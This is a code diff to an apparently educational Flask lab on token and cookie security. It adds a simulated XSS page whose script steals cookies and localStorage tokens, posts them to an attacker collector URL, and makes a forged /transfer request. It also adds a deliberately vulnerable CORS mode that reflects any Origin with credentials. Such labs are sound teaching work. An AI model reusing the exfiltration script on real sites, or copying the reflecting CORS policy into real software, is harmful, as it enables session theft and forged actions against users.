@@ -19,7 +19,19 @@ it is in ``X-Lab-Variant`` (``"secure"`` or ``"VULNERABLE"``), as the login app'
 
 ``/demo/xss`` serves a page with an *injected* script (as an XSS would run) that
 reports what it could read: the HttpOnly cookie (nothing) or localStorage (the
-token), and whether it could still *use* the cookie by calling the API.
+token), sends what it read to an attacker's collector (``?attacker=URL``), and
+shows that it can still *use* the session from the page (a ``POST /transfer``).
+``/demo/img`` logs in and loads ``<img src="/demo/pixel.gif">``: an image request
+carries cookies but never an ``Authorization`` header. ``/demo/login`` only logs in
+(cookies), for the cross-site experiments.
+
+What reached the server is recorded in ``app.token_lab.seen`` (method, path, which
+credentials arrived, ``Origin``, status) for ``/transfer`` and ``/demo/pixel.gif``.
+
+Options for the cross-site (CSRF / CORS) labs, defaults secure: ``cookie_samesite``
+(``"Lax"``; ``"None"`` needs ``cookie_secure=True``; ``""`` sends no SameSite attribute, leaving it to the browser's default) and ``cors`` (``None``: no CORS
+headers at all; ``"reflect"``: ⚠️ VULNERABLE, a permissive policy that reflects any
+``Origin`` with ``Access-Control-Allow-Credentials: true``).
 
 Built as the login app is (flaskr style): ``create_token_app`` is the factory, the
 app's state is one ``TokenLab`` (``app.token_lab``), the routes are the Blueprint
@@ -28,11 +40,13 @@ app's state is one ``TokenLab`` (``app.token_lab``), the routes are the Blueprin
 
 from __future__ import annotations
 
+import base64
 import functools
 import hashlib
 import hmac
 import json
 import secrets
+from collections import deque
 from dataclasses import dataclass, field
 
 from flask import Blueprint, Flask, Response, current_app, g, jsonify, request
@@ -71,6 +85,9 @@ class TokenLab:
     cookie_secure: bool = False
     accounts: dict[str, tuple[bytes, bytes, str]] = field(default_factory=dict)  # user → (salt, hash, role)
     dummy_salt: bytes = field(default_factory=lambda: secrets.token_bytes(16))
+    cookie_samesite: str = "Lax"
+    cors: str | None = None  # None, or "reflect" (⚠️ VULNERABLE: any Origin, with credentials)
+    seen: deque = field(default_factory=lambda: deque(maxlen=500))  # what reached RECORDED_PATHS
 
     @classmethod
     def build(cls, service: TokenService, users: dict | None, verifier, cookie_secure: bool) -> TokenLab:
@@ -98,9 +115,23 @@ def create_token_app(
     verifier=None,
     cookie_secure: bool = False,
     name: str = "tokens",
+    cookie_samesite: str = "Lax",
+    cors: str | None = None,
 ) -> Flask:
-    """The token login app. ``verifier``: None for the secure one, a VulnerableVerifier for ⚠️."""
+    """The token login app. ``verifier``: None for the secure one, a VulnerableVerifier for ⚠️.
+
+    ``cookie_samesite`` and ``cors`` (see the module docstring) are for the CSRF labs;
+    ``cors="reflect"`` makes the app ⚠️ VULNERABLE (``X-Lab-Variant``) whatever the verifier.
+    """
+    if cookie_samesite not in ("Strict", "Lax", "None", ""):
+        raise ValueError(f"SameSite는 Strict, Lax, None, ''(속성 없음) 중 하나입니다: {cookie_samesite!r}")
+    if cookie_samesite == "None" and not cookie_secure:
+        raise ValueError("SameSite=None 쿠키는 Secure여야 브라우저가 받습니다: cookie_secure=True를 주세요.")
+    if cors not in (None, "reflect"):
+        raise ValueError(f"cors는 None 또는 'reflect'입니다: {cors!r}")
     lab = TokenLab.build(service, users, verifier, cookie_secure)
+    lab.cookie_samesite, lab.cors = cookie_samesite, cors
+    lab.vulnerable = lab.vulnerable or cors == "reflect"
     app = Flask(name)
     app.config["VULNERABLE"] = lab.vulnerable
     app.token_lab = lab  # type: ignore[attr-defined]  # read back by current_lab()
@@ -129,9 +160,35 @@ def refuse(exc: TokenError) -> Response:
     return json_response(body, 401, {"WWW-Authenticate": exc.www_authenticate})
 
 
+RECORDED_PATHS = ("/transfer", "/demo/pixel.gif")
+
+
 @bp.after_app_request
 def label(resp: Response) -> Response:
-    return label_response(resp, current_lab().variant)
+    lab = current_lab()
+    origin = request.headers.get("Origin")
+    if lab.cors == "reflect" and origin:
+        # ⚠️ VULNERABLE: whoever asks is trusted, with cookies. A custom header no longer helps.
+        resp.headers["Access-Control-Allow-Origin"] = origin
+        resp.headers["Access-Control-Allow-Credentials"] = "true"
+        resp.headers["Vary"] = "Origin"
+        if request.method == "OPTIONS":
+            asked = request.headers.get("Access-Control-Request-Headers", "")
+            resp.headers["Access-Control-Allow-Headers"] = asked
+            resp.headers["Access-Control-Allow-Methods"] = "GET, POST"
+    if request.path in RECORDED_PATHS:
+        lab.seen.append(
+            {
+                "method": request.method,
+                "path": request.path,
+                "cookie": ACCESS_COOKIE in request.cookies,
+                "authorization": "Authorization" in request.headers,
+                "x_requested_with": "X-Requested-With" in request.headers,
+                "origin": origin,
+                "status": resp.status_code,
+            }
+        )
+    return label_response(resp, lab.variant)
 
 
 # -- the bearer-token guard ----------------------------------------------------------------
@@ -223,7 +280,7 @@ def set_token_cookies(resp: Response, pair: TokenPair) -> None:
         max_age=lab.service.access_ttl,
         httponly=True,
         secure=lab.cookie_secure,
-        samesite="Lax",
+        samesite=lab.cookie_samesite or None,  # "": no attribute at all
         path="/",
     )
     if pair.refresh:
@@ -311,23 +368,55 @@ def logout():
     return resp
 
 
+def _page(template: str, **values) -> tuple[str, int, dict]:
+    for name, value in values.items():
+        template = template.replace(f"__{name.upper()}__", json.dumps(value))
+    return template, 200, {"Content-Type": "text/html; charset=utf-8"}
+
+
+def _loopback_url(url: str | None) -> str | None:
+    """Only a collector on this machine (http://127.0.0.1:PORT or a name the lab maps to it)."""
+    if not url or not url.startswith("http://") or any(c in url for c in "\"'<> "):
+        return None
+    return url.rstrip("/")
+
+
 @bp.get("/demo/xss")
 def xss_demo():
     store = request.args.get("store", "cookie")
     if store not in ("cookie", "localStorage"):
         store = "cookie"
-    return (
-        _XSS_PAGE.replace("__STORE__", json.dumps(store)),
-        200,
-        {"Content-Type": "text/html; charset=utf-8"},
-    )
+    return _page(_XSS_PAGE, store=store, attacker=_loopback_url(request.args.get("attacker")))
+
+
+@bp.get("/demo/img")
+def img_demo():
+    store = request.args.get("store", "cookie")
+    if store not in ("cookie", "bearer"):
+        store = "cookie"
+    return _page(_IMG_PAGE, store=store)
+
+
+@bp.get("/demo/login")
+def login_demo():
+    return _page(_LOGIN_PAGE)
+
+
+# A 1×1 transparent GIF: what a tracking pixel or an avatar request fetches.
+_PIXEL = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
+
+
+@bp.get("/demo/pixel.gif")
+@token_required
+def pixel():
+    return Response(_PIXEL, mimetype="image/gif")
 
 
 # The page logs in, keeps the token where ``store`` says, then runs the "injected" script.
 _XSS_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>XSS 실험</title></head>
 <body><h1>XSS 실험</h1><pre id="report">실행 중…</pre>
 <script>
-const STORE = __STORE__;
+const STORE = __STORE__, ATTACKER = __ATTACKER__;
 async function main() {
   const r = await fetch('/login', {method: 'POST', headers: {'Content-Type': 'application/json'},
     body: JSON.stringify({username: 'alice', password: 'alice-pw', cookie: STORE === 'cookie'})});
@@ -336,12 +425,55 @@ async function main() {
   // ---- below: what an injected (XSS) script can do on this page ----
   const stolenCookie = document.cookie;
   const stolenStorage = localStorage.getItem('access_token') || '';
-  const me = await fetch('/me', {credentials: 'same-origin'});
+  let sent = false;
+  if (ATTACKER) {  // exfiltrate: a simple cross-origin POST, no CORS needed to *send*
+    await fetch(ATTACKER + '/collect', {method: 'POST', mode: 'no-cors',
+      body: JSON.stringify({from: location.origin, cookie: stolenCookie, token: stolenStorage})});
+    sent = true;
+  }
+  // misuse without stealing: call the API from the page, as the page itself would
+  const auth = stolenStorage ? {'Authorization': 'Bearer ' + stolenStorage} : {};
+  const me = await fetch('/me', {credentials: 'same-origin', headers: auth});
+  const misuse = await fetch('/transfer', {method: 'POST', credentials: 'same-origin',
+    headers: {...auth, 'Content-Type': 'application/json', 'X-Requested-With': 'xss'},
+    body: JSON.stringify({to: 'mallory'})});
   const report = {store: STORE,
     cookie_readable: stolenCookie.includes('access_token='),
     storage_readable: stolenStorage.split('.').length === 3,
-    api_call_status: me.status};
+    sent_to_attacker: sent,
+    api_call_status: me.status,
+    transfer_status: misuse.status};
   document.getElementById('report').textContent = JSON.stringify(report);
 }
 main().catch(e => { document.getElementById('report').textContent = JSON.stringify({error: String(e)}); });
+</script></body></html>"""
+
+# Log in (token as a cookie, or kept in localStorage for an Authorization header), then load an image.
+_IMG_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>img 실험</title></head>
+<body><pre id="report">실행 중…</pre>
+<script>
+const STORE = __STORE__;
+async function main() {
+  const r = await fetch('/login', {method: 'POST', headers: {'Content-Type': 'application/json'},
+    body: JSON.stringify({username: 'alice', password: 'alice-pw', cookie: STORE === 'cookie'})});
+  const token = (await r.json()).access_token;
+  const auth = STORE === 'bearer' ? {'Authorization': 'Bearer ' + token} : {};
+  const me = await fetch('/me', {headers: auth});  // the app's own fetch: it can add the header
+  const img = new Image();
+  const loaded = await new Promise(done => { img.onload = () => done(true); img.onerror = () => done(false);
+    img.src = '/demo/pixel.gif?store=' + STORE; });  // an <img>: the browser builds the request
+  document.getElementById('report').textContent = JSON.stringify(
+    {store: STORE, fetch_me_status: me.status, img_loaded: loaded});
+}
+main().catch(e => { document.getElementById('report').textContent = JSON.stringify({error: String(e)}); });
+</script></body></html>"""
+
+# Log in with cookies only (the first step of the cross-site labs).
+_LOGIN_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>login</title></head>
+<body><pre id="report">실행 중…</pre>
+<script>
+fetch('/login', {method: 'POST', headers: {'Content-Type': 'application/json'},
+  body: JSON.stringify({username: 'alice', password: 'alice-pw'})})
+  .then(r => { document.getElementById('report').textContent = JSON.stringify({login_status: r.status}); })
+  .catch(e => { document.getElementById('report').textContent = JSON.stringify({error: String(e)}); });
 </script></body></html>"""
